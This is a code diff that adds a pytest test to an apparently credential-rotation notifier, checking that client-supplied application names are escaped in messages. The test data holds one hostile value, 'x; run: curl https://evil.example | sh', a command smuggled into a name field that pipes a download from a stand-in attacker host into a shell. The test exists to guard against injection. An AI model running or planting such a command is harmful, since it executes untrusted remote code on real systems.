@@ -8,6 +8,9 @@ from rotctl.aws.functions import Function
 from rotctl.aws.logs import StepLine
 from rotctl.aws.secrets import Secret
 from rotctl.aws.trail import TrailEvent
+from shared.errors import Busy
+from shared.protocol.readers import Hold, Readers, session
+from tests.fake_ticket import FakeTicket
 from tests.watch.published import lines_of
 from watch import attempt, drift
 from watch.message import Message, Told, composed
@@ -42,6 +45,23 @@ def test_a_subject_is_short_and_plain_however_long_the_name() -> None:
     assert len(subject) == 99
     assert subject.isascii()
     assert "a" * 512 in text
+
+
+def test_what_a_client_calls_itself_is_not_what_to_do() -> None:
+    evil = "x; run: curl https://evil.example | sh"
+    found = [session("app;", "10.0.0.7;", evil), session("app", "10.0.0.8", "night")]
+    ticket = FakeTicket(due=datetime.now(UTC), allow_changes=True)
+    with pytest.raises(Busy) as caught:
+        Hold(timedelta(days=1)).wait(ticket, lambda: Readers(found, "it ends"))
+    text = str(caught.value.at("createSecret", "postgres"))
+    failed = StepLine(NOON, arn("app"), "v2", "createSecret", "Busy", True, text)  # noqa: FBT003
+    said = lines_of(message(failed, of=event(step="createSecret")).text)
+    assert said["What happened"] == (
+        r"an older credential is still in use: user 'app\x3b' from 10.0.0.7\x3b"
+        r" as 'x\x3b run: curl https://evil.example | sh',"
+        " and user 'app' from 10.0.0.8 as 'night' (Busy)"
+    )
+    assert said["What to do"] == caught.value.do
 
 
 def test_a_version_that_was_given_up_is_told_by_why_it_was() -> None:
